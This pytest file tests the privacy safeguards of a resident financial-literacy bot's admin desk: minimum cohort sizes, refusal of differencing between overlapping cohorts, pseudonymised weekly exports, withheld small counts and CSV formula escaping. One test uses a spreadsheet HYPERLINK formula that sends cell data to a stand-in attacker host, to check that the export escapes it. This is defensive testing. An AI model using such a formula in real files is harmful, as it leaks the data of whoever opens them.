"""No resident singled out by an administrator: small cohorts, differencing, exports, counts."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import gzip
import io
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from bot.core.admin import AdminDesk
from bot.core.admin.common import report
from bot.core.admin.export import aggregate_csv, iso_week, safe_csv_text
from bot.core.admin.items import rows_for
from bot.core.checks import load_content
from bot.core.content import Content
from bot.core.html import visible_text
from bot.core.literacy import Cell
from bot.core.models import Broadcast
from bot.core.pseudonyms import EXPORT, pseudonym
from bot.core.replies import Reply
from bot.pictures import Pictures
from bot.store import Store
from bot.store import exports as export_module
from bot.store.reports import Reports

_CONTENT = load_content(Path(__file__).resolve().parents[1] / "content")

ADMIN = 900
K = 5
NOW = dt.datetime(2026, 11, 26, 10, 0, tzinfo=dt.UTC)  # a Thursday in ISO week 48


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    store = await Store.open(f"sqlite+aiosqlite:///{tmp_path}/privacy.db", clock=lambda: NOW)
    yield store
    await store.close()


@pytest.fixture
def desk(content: Content, store: Store) -> AdminDesk:
    return AdminDesk(
        content=content,
        store=store,
        reports=Reports(store.engine),
        pictures=Pictures(),
        admin_ids=frozenset({ADMIN}),
        min_group=K,
        pseudonym_key=b"research-key",
        clock=lambda: NOW,
    )


async def residents(
    store: Store, ids: range, *, cohort: str | None = None, answer: bool = True
) -> None:
    """Consented residents, optionally in a cohort, each answering one question once."""
    found = await store.cohorts.find(name=cohort) if cohort else None
    for resident_id in ids:
        await store.residents.ensure(resident_id=resident_id, language="en")
        # The notice's version 2 names announcements: these residents may receive them.
        await store.residents.give_consent(resident_id=resident_id, version=2)
        if found is not None:
            await store.cohorts.join(resident_id=resident_id, cohort_id=found.id)
        if answer:
            await answer_once(store, resident_id, "pay-codes-q1", option=0)


async def answer_once(store: Store, resident_id: int, question_id: str, *, option: int) -> None:
    attempt = await store.quizzes.start(
        resident_id=resident_id, lesson_id="pay-codes", question_ids=[question_id], kind="full"
    )
    # Answers name their option by its stable id (statistics count by it), as the tutor stores.
    question = _CONTENT.curriculum.question(question_id)
    assert question is not None
    await store.quizzes.record_answer(
        attempt=attempt,
        position=0,
        option_index=option,
        option_id=question.options[option].id,
        correct=False,
    )
    await store.quizzes.finish(attempt_id=attempt.id)


def said(reply: Reply) -> str:
    return "\n".join(visible_text(screen.text) for screen in reply.screens)


def rows(data: bytes) -> list[dict[str, str]]:
    if data[:2] == b"\x1f\x8b":  # answer-level exports arrive gzip-compressed
        data = gzip.decompress(data)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


async def stored_rows(store: Store, reply: Reply) -> list[dict[str, str]]:
    """The answer-level rows of an export reply, read back part by part from the store."""
    out: list[dict[str, str]] = []
    for stored in reply.stored:
        part = await store.exports.read_part(export_id=stored.export_id, part=stored.part)
        assert part is not None
        out.extend(rows(part.data))
    return out


async def test_a_cohort_below_k_members_gets_no_figures(desk: AdminDesk, store: Store) -> None:
    await store.cohorts.create(code="tiny000001", name="Tiny", created_by=ADMIN)
    await residents(store, range(1, 5), cohort="Tiny")  # 4 members
    await residents(store, range(100, 110))
    texts = desk.content.ui["en"].admin
    refusal = texts.cohort_too_small.format(name="Tiny", k=K)
    for command in ("stats", "export"):
        reply = await desk.handle(ADMIN, "en", command, "Tiny")
        assert said(reply) == refusal
        assert reply.documents == () and reply.photos == ()
    await residents(store, range(5, 6), cohort="Tiny")  # the fifth member
    reply = await desk.handle(ADMIN, "en", "stats", "Tiny")
    assert "Literacy statistics: Tiny" in said(reply)


async def test_a_cohort_close_to_everyone_is_refused(desk: AdminDesk, store: Store) -> None:
    """Everyone minus the cohort would be the few residents outside it."""
    await store.cohorts.create(code="almostall1", name="Almost all", created_by=ADMIN)
    await residents(store, range(1, 9), cohort="Almost all")
    await residents(store, range(50, 52))  # only 2 consented residents outside it
    texts = desk.content.ui["en"].admin
    reply = await desk.handle(ADMIN, "en", "export", "Almost all")
    assert said(reply) == texts.cohort_too_close.format(
        name="Almost all", other=texts.scope_all, k=K
    )
    assert reply.documents == ()
    await residents(store, range(52, 55))  # now 5 outside it
    reply = await desk.handle(ADMIN, "en", "stats", "Almost all")
    assert "Literacy statistics: Almost all" in said(reply)


async def test_two_cohorts_a_few_residents_apart_are_refused(desk: AdminDesk, store: Store) -> None:
    """Cohort B = cohort A plus one resident: B's figures minus A's describe that one."""
    await store.cohorts.create(code="lecture001", name="Lecture", created_by=ADMIN)
    await store.cohorts.create(code="lecture002", name="Lecture plus one", created_by=ADMIN)
    await residents(store, range(1, 8), cohort="Lecture")
    plus = await store.cohorts.find(name="Lecture plus one")
    assert plus is not None
    for resident_id in range(1, 9):
        if resident_id == 8:
            await residents(store, range(8, 9))
        await store.cohorts.join(resident_id=resident_id, cohort_id=plus.id)
    await residents(store, range(100, 110))
    texts = desk.content.ui["en"].admin
    for name, other in (("Lecture", "Lecture plus one"), ("Lecture plus one", "Lecture")):
        reply = await desk.handle(ADMIN, "en", "stats", name)
        assert said(reply) == texts.cohort_too_close.format(name=name, other=other, k=K)
    # The same members twice is no difference at all: both views show the same figures.
    await store.cohorts.create(code="lecture003", name="Lecture again", created_by=ADMIN)
    again = await store.cohorts.find(name="Lecture again")
    assert again is not None
    for resident_id in range(1, 9):
        await store.cohorts.join(resident_id=resident_id, cohort_id=again.id)
    reply = await desk.handle(ADMIN, "en", "stats", "Lecture again")
    assert said(reply) == texts.cohort_too_close.format(name="Lecture again", other="Lecture", k=K)


async def test_answer_level_export_needs_k_answering_residents(
    desk: AdminDesk, store: Store
) -> None:
    texts = desk.content.ui["en"].admin
    await residents(store, range(1, 5))  # 4 residents answered
    await residents(store, range(10, 20), answer=False)
    reply = await desk.handle(ADMIN, "en", "export", "")
    assert said(reply) == texts.export_too_few.format(scope=texts.scope_all, k=K)
    assert [d.filename.split("-")[1] for d in reply.documents] == ["stats"]  # aggregates only
    assert reply.stored == ()
    await residents(store, range(5, 6))
    reply = await desk.handle(ADMIN, "en", "export", "")
    assert [d.filename.split("-")[1] for d in reply.documents] == ["stats"]
    assert [(s.filename.split("-")[1], s.part) for s in reply.stored] == [("answers", 1)]


async def test_answer_level_export_has_weeks_not_days(desk: AdminDesk, store: Store) -> None:
    await residents(store, range(1, 7))
    reply = await desk.handle(ADMIN, "en", "export", "")
    answers = await stored_rows(store, reply)
    assert len(answers) == 6
    assert {row["answered_week"] for row in answers} == {"2026-W48"}
    assert "answered_on" not in answers[0]
    assert {row["resident"] for row in answers} == {
        pseudonym(resident_id=i, key=b"research-key", family=EXPORT) for i in range(1, 7)
    }


async def test_an_export_too_large_for_telegram_is_refused_with_a_way_to_filter(
    desk: AdminDesk, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_module, "_ENCODE_EVERY", 2048)  # compressed in small steps
    await residents(store, range(1, 7))
    for resident_id in range(1, 7):
        for _ in range(300):
            await answer_once(store, resident_id, "pay-codes-q1", option=1)
    small = dataclasses.replace(desk, export_part_bytes=1000, export_max_parts=2)
    reply = await small.handle(ADMIN, "en", "export", "")
    texts = desk.content.ui["en"].admin
    assert said(reply) == texts.export_too_large.format(scope=texts.scope_all, parts=2, megabytes=0)
    assert "/export <cohort name>" in said(reply)
    assert reply.stored == () and len(reply.documents) == 1  # the aggregates still go
    assert await store.exports.summary() == []  # nothing half-written is left behind
    roomy = dataclasses.replace(desk, export_part_bytes=4000, export_max_parts=50)
    reply = await roomy.handle(ADMIN, "en", "export", "")
    assert len(reply.stored) > 1
    captions = [
        (await store.exports.read_part(export_id=s.export_id, part=s.part)) for s in reply.stored
    ]
    total = len(reply.stored)
    assert [c.caption for c in captions if c] == [
        texts.export_part.format(
            caption=texts.export_answers_caption.format(scope=texts.scope_all),
            part=n,
            parts=total,
        )
        for n in range(1, total + 1)
    ]
    assert len(await stored_rows(store, reply)) == 6 + 6 * 300


def test_iso_weeks_follow_the_iso_calendar() -> None:
    assert iso_week(dt.date(2026, 11, 26)) == "2026-W48"
    assert iso_week(dt.date(2027, 1, 1)) == "2026-W53"  # a Friday: still the old ISO year
    assert iso_week(dt.date(2024, 12, 30)) == "2025-W01"


async def test_suppressed_cells_carry_no_figure_in_the_csv(desk: AdminDesk, store: Store) -> None:
    found = await report(desk, None, "all residents")
    # A cell withheld only to protect another one (complementary suppression) has n >= k: its
    # n would let anyone recompute what was withheld.
    found = dataclasses.replace(found, residents=Cell(None, 7, hidden=True))
    table = rows(aggregate_csv(found))
    row = next(r for r in table if (r["section"], r["measure"]) == ("reach", "residents"))
    # It reads "withheld", not "<5": it is about 7 residents.
    assert row["value"] == "withheld" and row["residents"] == "withheld"
    for row in table:
        assert not (row["value"] == "<5" and row["residents"] not in ("<5", "")), row
        assert not (row["value"] == "withheld" and row["residents"] != "withheld"), row


async def test_csv_cells_cannot_start_a_formula(desk: AdminDesk, store: Store) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await store.cohorts.create(code="formula001", name=name, created_by=ADMIN)
    await residents(store, range(1, 7), cohort=name)
    await residents(store, range(100, 106))
    reply = await desk.handle(ADMIN, "en", "export", name)
    table = rows(reply.documents[0].data)
    items = {row["item"] for row in table if row["section"] == "reach"}
    assert items == {"'" + name}
    for row in table:
        for value in row.values():
            if value and value[0] in "=+@\t\r":
                pytest.fail(f"a cell that starts a formula: {row}")
            if value.startswith("-"):  # negative numbers are numbers, not formulas
                float(value)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Dawa =1", "Dawa =1"),
        ("", ""),
    ],
)
def test_safe_csv_text(text: str, safe: str) -> None:
    assert safe_csv_text(text) == safe


async def test_broadcast_preview_shows_a_small_audience_as_less_than_k(
    desk: AdminDesk, store: Store
) -> None:
    await store.cohorts.create(code="small00001", name="Small", created_by=ADMIN)
    await residents(store, range(1, 4), cohort="Small", answer=False)
    reply = await desk.handle(ADMIN, "en", "broadcast", "@Small Hello")
    preview = said(reply)
    assert "it will go to <5 residents" in preview
    assert not re.search(r"\b3\b", preview)


def report_of(desk: AdminDesk, broadcast: Broadcast, *, final: bool) -> str:
    return said(desk.broadcast_report("en", broadcast, final=final))


def test_broadcast_reports_withhold_small_counts_and_their_complement(desk: AdminDesk) -> None:
    done = Broadcast(
        id=1,
        admin_id=ADMIN,
        cohort_id=None,
        text="hi",
        status="done",
        recipients=40,
        sent=36,
        failed=0,
        blocked=2,
        skipped=2,
    )
    text = report_of(desk, done, final=True)
    # blocked 2 and skipped 2 are below k; sent 36 with 40 recipients still leaves 4 = 2 + 2,
    # which describes no one in particular. No figure below 5 appears.
    assert "Of 40 residents: sent 36, failed 0, blocked the bot <5" in text
    assert "turned announcements off meanwhile <5" in text
    one_hidden = Broadcast(
        id=2,
        admin_id=ADMIN,
        cohort_id=None,
        text="hi",
        status="sending",
        recipients=40,
        sent=30,
        failed=1,
        blocked=0,
        skipped=0,
    )
    # failed 1 alone would be 40 - 30 - 9 remaining: the smallest other part goes too, and
    # reads as withheld, not as "<5" (9 are still to send).
    text = report_of(desk, one_hidden, final=False)
    assert "sent 30, failed <5" in text and "still to send (withheld)" in text
    almost_all = dataclasses.replace(
        done, id=4, recipients=3000, sent=2999, failed=1, blocked=0, skipped=0
    )
    # 2,999 sent and 1 failed: "sent" is withheld to protect "failed", and must not read "<5".
    text = report_of(desk, almost_all, final=True)
    assert "Of 3,000 residents: sent (withheld), failed <5, blocked the bot 0" in text
    tiny = Broadcast(
        id=3,
        admin_id=ADMIN,
        cohort_id=7,
        text="hi",
        status="done",
        recipients=3,
        sent=3,
        failed=0,
        blocked=0,
        skipped=0,
    )
    text = report_of(desk, tiny, final=True)
    assert "Of <5 residents: sent <5" in text
    assert not re.search(r"\b3\b", text.replace("#3", ""))


async def test_items_count_first_tries_and_show_retries_apart(
    desk: AdminDesk, store: Store
) -> None:
    question = desk.content.curriculum.question("pay-codes-q1")
    assert question is not None
    wrong = [i for i in range(len(question.options)) if i != question.correct_index]
    first_choice, retry_choice = wrong[0], wrong[1]
    for resident_id in range(1, 7):
        await store.residents.ensure(resident_id=resident_id, language="en")
        await store.residents.give_consent(resident_id=resident_id)
        await answer_once(store, resident_id, question.id, option=first_choice)
    # One resident retries ten times with another wrong option: 10 answers, 1 resident.
    for _ in range(10):
        await answer_once(store, 1, question.id, option=retry_choice)
    [row] = await rows_for(desk, "en", [question])
    assert row["residents"] == "6"
    assert row["retries"] == "10"
    chosen = " ".join(question.options[first_choice].text.en.split())
    assert row["wrong"] == (chosen if len(chosen) <= 30 else chosen[:29] + "…")


async def test_finlit_stats_on_the_command_line_refuses_a_small_cohort(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from bot.cli import print_stats
    from bot.settings import Settings

    url = f"sqlite+aiosqlite:///{tmp_path}/cli.db"
    store = await Store.open(url)
    try:
        await store.cohorts.create(code="tiny000002", name="Tiny", created_by=ADMIN)
        await residents(store, range(1, 3), cohort="Tiny")
    finally:
        await store.close()
    settings = Settings(_env_file=None, database_url=url)
    assert await print_stats(settings, cohort="Tiny", output="csv", language="en") == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert 'No figures for "Tiny": it has fewer than 5 members' in err
